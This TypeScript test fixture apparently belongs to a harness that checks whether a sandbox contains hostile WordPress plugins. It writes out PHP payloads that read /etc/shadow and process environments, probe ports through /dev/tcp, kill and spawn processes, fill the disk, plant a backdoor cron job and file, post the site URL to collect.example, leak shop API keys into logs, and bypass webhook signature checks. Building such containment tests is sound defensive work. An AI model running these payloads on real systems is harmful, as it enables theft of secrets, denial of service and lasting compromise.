/** What a hostile plugin is told about the machine that it wants to reach. */
export interface HostileTargets {
  /** A file of the machine with a word in it that nobody inside may learn. */
  readonly canaryFile: string;
  /** A folder of the machine that nobody inside may write to. */
  readonly folder: string;
  /** Port that this machine listens on, on every address. */
  readonly port: number;
  /** An address of this machine other than loopback. */
  readonly address: string;
  /** A process of this machine. */
  readonly pid: number;
}

export interface HostilePlugin {
  readonly id: string;
  readonly tries: string;
  /** `boundary`: the machine must stay untouched, whatever the verdict. `verdict`: the scenario must refuse the plugin. */
  readonly expects: "boundary" | "verdict";
  /** PHP that is appended to the plugin's main file. */
  php(targets: HostileTargets): string;
}

const quote = (text: string) => `'${text.replaceAll("\\", "\\\\").replaceAll("'", "\\'")}'`;
/** Runs code once a request, after WordPress is there. */
const onInit = (code: string) => `\nadd_action( 'init', function () { ${code} } );\n`;
/** Runs code in one request only. */
const once = (code: string) => onInit(`if ( @mkdir( '/tmp/hostile-once' ) ) { ${code} }`);
const tell =
  "file_put_contents( WP_CONTENT_DIR . '/forge-wc-log.jsonl', json_encode( array( 'message' => $told ) ) . \"\\n\", FILE_APPEND );";

export const hostilePlugins: readonly HostilePlugin[] = [
  {
    id: "read-files",
    tries: "reads files of the machine and tells them in its log",
    expects: "boundary",
    php: ({ canaryFile }) =>
      once(
        `$told = @file_get_contents( ${quote(canaryFile)} ) . @file_get_contents( '/etc/shadow' ) . shell_exec( 'cat ${canaryFile} /proc/1/environ 2>&1' ); ${tell}`,
      ),
  },
  {
    id: "write-files",
    tries: "writes into a folder of the machine, also through a link",
    expects: "boundary",
    php: ({ folder }) =>
      once(
        `@file_put_contents( ${quote(`${folder}/written`)}, 'x' ); @symlink( ${quote(folder)}, '/tmp/link' ); @file_put_contents( '/tmp/link/linked', 'x' ); shell_exec( 'touch ${folder}/touched' );`,
      ),
  },
  {
    id: "reach-ports",
    tries: "connects to ports of the machine with sockets, curl and a shell",
    expects: "boundary",
    php: ({ port, address }) =>
      once(
        `foreach ( array( '127.0.0.1', ${quote(address)} ) as $host ) { @fsockopen( $host, ${port}, $no, $why, 2 ); $c = curl_init( "http://$host:${port}/" ); curl_setopt( $c, CURLOPT_TIMEOUT, 2 ); curl_exec( $c ); shell_exec( "timeout 2 bash -c 'echo x > /dev/tcp/$host/${port}'" ); }`,
      ),
  },
  {
    id: "kill-processes",
    tries: "kills processes of the machine by their number",
    expects: "boundary",
    php: ({ pid }) => once(`posix_kill( ${pid}, 9 ); shell_exec( 'kill -9 ${pid}' );`),
  },
  {
    id: "stay-alive",
    tries: "leaves hundreds of processes in sessions of their own",
    expects: "boundary",
    php: () => once("for ( $i = 0; $i < 200; $i++ ) { exec( 'setsid sleep 4711 > /dev/null 2>&1 &' ); }"),
  },
  {
    id: "fill-disk",
    tries: "writes until nothing is left",
    expects: "boundary",
    php: () =>
      once(
        "$f = fopen( '/tmp/fill', 'w' ); while ( @fwrite( $f, str_repeat( 'x', 1 << 20 ) ) ) { if ( ftell( $f ) > 3 << 30 ) { break; } } fclose( $f );",
      ),
  },
  {
    id: "endless",
    tries: "never ends a request",
    expects: "verdict",
    php: () => onInit("if ( ! is_admin() ) { set_time_limit( 0 ); for ( ;; ) { usleep( 1000 ); } }"),
  },
  {
    id: "forge-evidence",
    tries: "writes a report of its own into the pipes of every process it sees",
    expects: "boundary",
    php: () =>
      once(
        "foreach ( glob( '/proc/[0-9]*/fd/1' ) as $pipe ) { @file_put_contents( $pipe, json_encode( array( 'kind' => 'report', 'report' => array( 'forgedByPlugin' => true ) ) ) . \"\\n\", FILE_APPEND ); }",
      ),
  },
  {
    id: "stay-installed",
    tries: "leaves an option, a job and a file behind when it is deleted",
    expects: "verdict",
    php: () =>
      onInit(
        "update_option( 'backdoor', '1' ); wp_next_scheduled( 'backdoor_job' ) || wp_schedule_event( time(), 'hourly', 'backdoor_job' ); file_put_contents( WP_CONTENT_DIR . '/backdoor.php', '<?php' );",
      ),
  },
  {
    id: "phone-home",
    tries: "tells another host that it was installed",
    expects: "verdict",
    php: () => onInit("wp_remote_post( 'https://collect.example/', array( 'body' => home_url() ) );"),
  },
  {
    id: "log-keys",
    tries: "writes the shop's API key into the log",
    expects: "verdict",
    php: () =>
      onInit(
        "foreach ( wp_load_alloptions() as $name => $value ) { if ( preg_match( '/^woocommerce_.*_settings$/', $name ) ) { wc_get_logger()->info( (string) $value ); } }",
      ),
  },
  {
    id: "take-everything",
    tries: "answers every webhook with 200 before anybody checks its signature",
    expects: "verdict",
    php: () =>
      "\nadd_filter( 'rest_pre_dispatch', function ( $answer, $server, $request ) { return str_contains( $request->get_route(), '/webhook' ) ? new WP_REST_Response( array(), 200 ) : $answer; }, 10, 3 );\n",
  },
];
